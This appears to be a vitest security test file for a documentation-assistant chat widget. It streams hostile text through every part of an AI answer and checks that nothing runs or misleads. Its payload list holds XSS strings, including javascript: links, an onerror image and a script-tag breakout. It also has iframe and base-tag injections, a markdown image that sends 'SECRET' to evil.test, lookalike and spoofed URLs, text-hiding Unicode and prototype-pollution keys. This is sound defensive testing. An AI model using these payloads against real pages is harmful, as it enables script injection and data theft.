/**
 * Hostile text in every part of an answer, through the whole widget, on a page under
 * `default-src 'self'; require-trusted-types-for 'script'`: in text, reasoning, titles and addresses of sources, names,
 * arguments and results of tools, files, annotations, ids and errors.
 */
import { afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
import { DocsAssistant } from '../../../src/index.ts'
import { preloadMarkdown } from '../../../src/markdown/index.ts'
import { dataStream, fakeAssistant, type DataStream } from '../../../src/testing/index.ts'
import { IS_FULL, sampleCases } from '../../propertyRuns.ts'
import { openStrictPage, ORIGIN, type StrictPage } from '../markdown/strictPage.tsx'
import { faultsInWidget } from './inspectWidget.ts'
import { slotsIn } from './slots.ts'
import '../../loadWidgetPanel.ts'

const CALL = 'window.__ran=1'
const TEXTS = [
  `javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  'data:text/html,<script>1</script>',
  'blob:https://docs.test/1',
  '//evil.test/a',
  '\\\\evil.test\\a',
  'https://docs.test@evil.test/',
  'https://docs.test/login',
  'https://docs.test\u2044login@evil.test/',
  'https://d\u043ecs.test/',
  '/%E2%80%AEgpj.exe',
  `<img src=x onerror=${CALL}>`,
  `"><script>${CALL}</script>`,
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.test/"></iframe>',
  '<base href="https://evil.test/">',
  '![a](https://evil.test/b.png?d=SECRET) [a](https://evil.test/)',
  `[a](javascript:${CALL}) [https://docs.test/](https://evil.test/)`,
  '$$\\href{javascript:0}{x}$$ $x\u202ey^2$',
  '\u202etxt.exe\u202c \u2066a',
  'hidden\u{e0041}\u{e0042}\u200b words',
  '\u001b[31mred\u001b[0m\u0007',
  'a\0b',
  '\ud83d',
  '\udc00x',
  'Z\u0351\u036b\u0343\u036a\u0302'.repeat(150),
  'W'.repeat(3000),
  '__proto__',
  'constructor',
  'toString',
  'then',
  '$$typeof',
  '',
  ' ',
  '```js" onclick="x\nlet a\n```',
  '[^__proto__] [1] [999]\n\n[^__proto__]: n',
  '> '.repeat(3000),
  '['.repeat(3000),
  '`'.repeat(999),
].map((text) => ({ name: JSON.stringify(text.slice(0, 40)), text }))

/** An answer with the same text in all its parts; `pieces` is the text as it streams. */
function answerOf(text: string, pieces: readonly string[]): DataStream {
  const args = { query: text, [text]: text, deep: [{ [text]: text }] }
  const json = JSON.stringify(args)
  const deltas = json.match(/[^]{1,40}/g) ?? []
  return dataStream()
    .step(text)
    .annotations(text, { type: text })
    .data(text, { type: 'finish', threadId: { [text]: text } })
    .reasoning(...pieces)
    .redactedReasoning(text)
    .tool({ id: 'a', name: text, args, result: { [text]: text } })
    .tool({ id: 'b', name: 'lookup', args, deltas: deltas.slice(0, 20), result: text })
    .tool({ id: text, name: 'lookup', args: { query: text }, result: [text] })
    .tool({
      id: 'c',
      name: 'search',
      args: { query: text },
      result: halves(text).flatMap((half) => [
        { path: half, metadata: { title: half } },
        { url: 'https://other.test/', title: half },
      ]),
    })
    .source({ url: text, title: 'Looks fine' })
    .source({ url: 'https://evil.test/a', title: text, id: text })
    .source({ url: '/own', title: text })
    .file({ mimeType: text, data: 'AAAA' })
    .file({ mimeType: 'text/html', data: text })
    .file({ mimeType: 'image/png', data: text })
    .file({ mimeType: 'image/png', data: 'AAAA' })
    .text('See [1], [2] and [3]: ', ...pieces)
}

/** The first part of a text, at some of the possible lengths. */
function halves(text: string): string[] {
  return [text, text.slice(0, Math.ceil(text.length / 2)), text.slice(0, 7)]
}

let page: StrictPage
const polluted = Object.getOwnPropertyNames(Object.prototype).join()
beforeAll(() => preloadMarkdown())
beforeEach(() => {
  page = openStrictPage(420)
  page.box.style.height = '560px'
})
afterEach(() => page.close())

/** Asks a question, and waits for the answer or a problem. */
async function ask(answer: DataStream, delayMs: number, look: () => void = () => {}): Promise<void> {
  const fetch = fakeAssistant(answer, { delayMs }) as unknown as typeof globalThis.fetch
  page.render(
    <DocsAssistant
      baseUrl={ORIGIN}
      domain="acme"
      apiKey="svc_dsc_test"
      variant="inline"
      storage={null}
      siteUrl={`${ORIGIN}/`}
      fetch={fetch}
      navigate={() => {}}
      components={{ tools: {} }}
    />,
  )
  const slots = slotsIn(page.box)
  const input = (await slots.wait('input')) as HTMLTextAreaElement
  const { HTMLTextAreaElement } = page.frame.contentWindow as Window & typeof globalThis
  Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.set!.call(input, 'What?')
  input.dispatchEvent(new Event('input', { bubbles: true }))
  await expect.poll(() => (slots.find('send') as HTMLButtonElement | null)?.disabled).toBe(false)
  slots.find('send')!.click()
  await expect
    .poll(
      () => {
        look()
        for (const button of page.box.querySelectorAll<HTMLButtonElement>(
          '[data-slot="message"] button[aria-expanded="false"]',
        ))
          button.click()
        return (
          slots.all('problem').length + page.box.querySelectorAll('[data-role="assistant"][data-status="done"]').length
        )
      },
      { timeout: 20_000, interval: 30 },
    )
    .toBeGreaterThan(0)
}

/** Does what a reader might do on the page. */
function use(): void {
  const view = page.frame.contentWindow as Window & typeof globalThis
  const stay = (event: Event) => event.preventDefault()
  page.frame.contentDocument!.addEventListener('click', stay)
  for (const chip of page.box.querySelectorAll('.da-citation'))
    chip.dispatchEvent(new view.PointerEvent('pointerover', { bubbles: true }))
  for (const link of page.box.querySelectorAll<HTMLElement>('[data-slot="message"] a')) {
    link.focus()
    link.click()
  }
  page.frame.contentDocument!.removeEventListener('click', stay)
}

function faults(): string[] {
  const found = faultsInWidget(page.box, ORIGIN)
  found.push(...page.violations)
  if ('__ran' in page.frame.contentWindow! || '__ran' in window) found.push('a script ran')
  if (Object.getOwnPropertyNames(Object.prototype).join() !== polluted) found.push('Object.prototype changed')
  if (page.frame.contentDocument!.title !== '' || !page.box.checkVisibility()) found.push('the page changed')
  return found
}

// The next test streams the others. The nightly run tries each text both ways.
test.each(TEXTS.filter((_, index) => IS_FULL || index % 3 !== 0))(
  '$name is harmless in every part of an answer',
  async ({ text }) => {
    await ask(answerOf(text, [text]).finish({ threadId: text }), 0)
    expect(faults().join('\n')).toBe('')
    use()
    expect(faults().join('\n')).toBe('')
    expect(page.box.querySelector('[data-slot="thread"]')!.textContent).toContain('See ')
  },
)

test.each(sampleCases(TEXTS))('$name is harmless in every part of an answer while it streams', async ({ text }) => {
  const size = Math.max(1, Math.ceil(text.length / 6))
  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, index) =>
    text.slice(index * size, (index + 1) * size),
  )
  const seen = new Set<string>()
  await ask(answerOf(text, pieces).finish(), 12, () => {
    for (const fault of faults()) seen.add(fault)
  })
  expect([...seen, ...faults()].join('\n')).toBe('')
})

test.each(sampleCases(TEXTS, 6))('$name is not shown if it is an error message', async ({ text }) => {
  await ask(dataStream().step().text('Half an answer').error(text), 0)
  const notice = page.box.querySelector('[data-slot="problem"]')!
  expect(faults().join('\n')).toBe('')
  if (text.trim().length > 3) expect(notice.textContent).not.toContain(text)
})

test('an image in an answer is shown under any policy', async () => {
  const picture = 'iVBORw0KGgoAAAANSUhEUgAAAAMAAAACCAIAAAASFvFNAAAAEElEQVR4nGP4z8AAQQxwFgBB0gX7h/C5SAAAAABJRU5ErkJggg=='
  await ask(dataStream().step().text('See:').file({ mimeType: 'image/png', data: picture }).finish(), 0)
  const canvas = page.box.querySelector<HTMLCanvasElement>('[data-slot="file"] canvas')!
  await expect.poll(() => [canvas.width, canvas.height]).toEqual([3, 2])
  expect(Array.from(canvas.getContext('2d')!.getImageData(0, 0, 1, 1).data)).toEqual([255, 0, 0, 255])
  expect(faults().join('\n')).toBe('')
})

test('the inspection finds a violation in any part', async () => {
  await ask(answerOf('fine', ['fine']).finish(), 0)
  expect(faults().join('\n')).toBe('')
  const add = (slot: string, localName: string, properties: Partial<HTMLAnchorElement> = {}) => {
    const element = Object.assign(page.frame.contentDocument!.createElement(localName), properties)
    page.box.querySelector(`[data-slot="${slot}"]`)!.append(element)
    return element
  }
  add('text', 'script')
  add('tool', 'a', { href: 'javascript:0', textContent: 'x' })
  add('source', 'a', { href: 'https://evil.test/' }).append(
    Object.assign(page.frame.contentDocument!.createElement('bdi'), { textContent: 'https://docs.test/a' }),
  )
  add('reasoning', 'p', { id: 'root', textContent: '\u202ex' })
  expect(faults().sort()).toEqual([
    'a character that turns or hides text',
    'element script',
    'id root',
    'no noopener on https://evil.test/',
    'no noopener on javascript:0',
    'says docs.test, leads to evil.test',
    'scheme javascript:0',
  ])
})
